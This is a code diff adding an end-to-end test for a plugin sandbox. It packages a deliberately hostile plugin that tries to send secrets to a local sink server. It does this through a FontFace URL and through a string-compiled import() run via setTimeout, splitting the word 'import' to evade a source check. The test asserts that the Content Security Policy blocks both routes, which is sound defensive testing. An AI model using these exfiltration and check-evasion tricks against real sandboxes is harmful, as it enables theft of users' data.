@@ -110,6 +110,37 @@ test.describe('capabilities on the Twins page', () => {
     await expect(view).toContainText('°C → 0 °C');
   });
 
+  test('attack: a granule in its sandbox worker sends data out through a font and a string-compiled import() (CSP header)', async ({ page, stack }) => {
+    const hits: string[] = [];
+    const sink: Server = createServer((req, res) => (hits.push(`${req.method} ${req.url}`), res.end('ok')));
+    sink.on('connection', (s) => s.on('data', (d) => hits.push(`bytes ${d.length}`)));
+    const port = await freePort();
+    await new Promise<void>((r) => sink.listen(port, '127.0.0.1', () => r()));
+    const out = `http://127.0.0.1:${port}`;
+    // The holes of issue 13 the sandbox itself may not close: FontFace in the worker, and a string handed to the native
+    // timer left on the global scope's prototype, compiled into an import() of remote code (the word is assembled at
+    // run time, past the sandbox's source check).
+    const exfiltrate = `
+      const tryIt = (f) => { try { return f(); } catch (e) { return 'threw'; } };
+      exports.operations = { scene: () => ({}), pose: () => ({}), placed: () => [], view: async () => {
+        const font = tryIt(() => new FontFace('x', 'url(${out}/font?secret=1)').load().catch(() => null));
+        let p = tryIt(() => Object.getPrototypeOf(globalThis));
+        while (p && typeof p === 'object' && !Object.getOwnPropertyDescriptor(p, 'setTimeout')) p = Object.getPrototypeOf(p);
+        const timer = tryIt(() => p.setTimeout.call(globalThis, 'im' + "port('${out}/module.js?secret=2')", 0));
+        await font;
+        return { type: 'kv', items: [['tried', 'yes']] };
+      } };`;
+    try {
+      await composeAndRun(page, stack.appUrl, packGranule({ files: { 'granule.json': JSON.stringify({ ...base, name: 'mallory/leaky', owner: { publicKey: '' } }), 'model.js': 'exports.x = 1;', 'view.js': 'exports.render = () => null;', 'scene.json': '{}', 'controller.js': exfiltrate } }).bytes, 'leaky');
+      await expect(page.getByTestId('context-view')).toContainText('tried');
+      await page.waitForTimeout(1500);
+      expect(hits).toEqual([]);
+    } finally {
+      sink.closeAllConnections();
+      sink.close();
+    }
+  });
+
   test('attack: code in the app page and in a blob: worker cannot reach an exfiltration sink (CSP header)', async ({ page, stack }) => {
     const hits: string[] = [];
     const sink: Server = createServer((req, res) => (hits.push(`${req.method} ${req.url}`), res.end('ok')));
